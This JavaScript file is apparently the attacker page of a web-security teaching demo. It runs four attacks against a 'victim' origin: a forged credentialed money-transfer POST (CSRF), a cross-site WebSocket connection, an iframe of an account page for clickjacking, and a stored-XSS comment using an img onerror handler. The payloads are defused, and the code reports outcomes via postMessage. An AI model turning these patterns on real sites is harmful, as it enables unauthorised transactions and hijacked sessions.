// The page of the attacker: four attempts against another origin, with the cookies of its visitor.

const victim = document.body.dataset.victim;

function tell(attempt, seen, html) {
  parent.postMessage({ attempt, seen, html }, victim);
}

async function forgeForm() {
  const body = new URLSearchParams({ to: "attacker", amount: "1000" });
  const options = { method: "POST", mode: "no-cors", credentials: "include", body };
  await fetch(`${victim}/attack/transfer`, options).then(
    () => tell("post", "An answer that it cannot read."),
    (error) => tell("post", String(error)),
  );
}

function openSocket() {
  const socket = new WebSocket(`${victim.replace("http", "ws")}/attack/feed`);
  socket.onopen = () => tell("socket", "An open connection!");
  socket.onclose = (event) => tell("socket", `A connection that closed with code ${event.code}.`);
}

function showFrame() {
  const frame = document.createElement("iframe");
  frame.title = "The account";
  frame.onload = () => tell("frame", "An empty frame.");
  frame.src = `${victim}/attack/account`;
  document.body.append(frame);
}

function leaveComment() {
  const html = `Nice page! <img alt="" src="data:," onerror="document.body.dataset.stolen = 'cookies'">`;
  tell("script", "A comment that was saved.", html);
}

document.getElementById("attack").addEventListener("click", () => {
  forgeForm();
  openSocket();
  showFrame();
  leaveComment();
});
